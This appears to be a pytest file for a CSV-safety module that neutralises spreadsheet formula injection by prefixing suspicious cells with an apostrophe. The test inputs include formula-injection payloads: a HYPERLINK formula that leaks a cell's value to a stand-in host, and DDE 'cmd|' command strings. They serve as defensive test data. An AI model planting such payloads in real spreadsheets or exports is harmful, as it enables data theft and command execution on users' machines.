"""The CSV rule of core.csvsafe: text that starts like a formula is written as text, numbers
and everything else as they are."""

from __future__ import annotations

import csv
import io

import pytest

from dispatch.core.csvsafe import made_safe, safe_cell, writer


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1-1", "-1e3", "@SUM(1)", "\tx", "\r1",
                                  "-1\n=cmd", "+46 70 123 45 67", "-",
                                  '=HYPERLINK("http://evil.test/?"&A1,"click")',
                                  "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["", "Götgatan 12B", " =1+1", "1-2", "'=1", "a=b", "2026-01-14",
                                   None])
def test_other_text_is_kept(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("number", [-2, -2.5, 0, 17, True, "-2", "-2.5", "-2,5", "+3", "17"])
def test_numbers_are_numbers_even_when_negative(number):
    assert safe_cell(number) == number


def test_writer_and_rewriting_agree():
    out = io.StringIO()
    table = [["a", "=1;2", -3, "-3-3"], ["@x", "ok", 4.5, ""]]
    writer(out, delimiter=";").writerows(table)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";"))
    assert rows == [["a", "'=1;2", "-3", "'-3-3"], ["'@x", "ok", "4.5", ""]]
    plain = io.StringIO()
    csv.writer(plain, delimiter=";").writerows(table)
    assert made_safe(plain.getvalue(), delimiter=";") == out.getvalue()
